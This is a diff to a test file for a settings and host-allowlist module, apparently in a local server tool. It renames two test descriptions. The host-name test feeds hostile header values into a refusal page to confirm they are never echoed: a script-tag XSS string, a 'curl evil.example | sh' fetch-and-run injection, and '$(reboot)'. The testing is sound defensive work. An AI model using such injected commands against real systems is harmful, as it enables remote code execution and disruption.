@@ -94,7 +94,7 @@ it('a webhook has a URL and an optional secret, and errors never quote either', 
   expect(wrong.ok ? '' : wrong.fault).not.toContain('very-secret-key')
 })
 
-it('a reachable address is allowed with a password', () => {
+it('an address that other machines can reach is allowed with a password', () => {
   expect(readSettings({ STEWARD_HOST: '0.0.0.0', STEWARD_PASSWORD: 'a long one' })).toMatchObject({
     ok: true,
     value: { host: '0.0.0.0' },
@@ -150,7 +150,7 @@ describe('host names', () => {
     expect(isAllowedHost(host, ['nas.lan'])).toBe(false)
   })
 
-  it('the refusal shows the setting to copy and escapes the header', () => {
+  it('the refusal shows the setting to copy and never repeats an invalid header', () => {
     expect(refusedHostPage('nas.lan:9191', [])).toContain('STEWARD_ALLOWED_HOSTS=nas.lan npm start')
     expect(refusedHostPage('NAS.lan', ['a.lan', 'b.lan'])).toContain('=a.lan,b.lan,nas.lan npm start')
     for (const odd of ['<script>alert(1)</script>', 'x; curl evil.example | sh', '$(reboot)', 'a b', null]) {
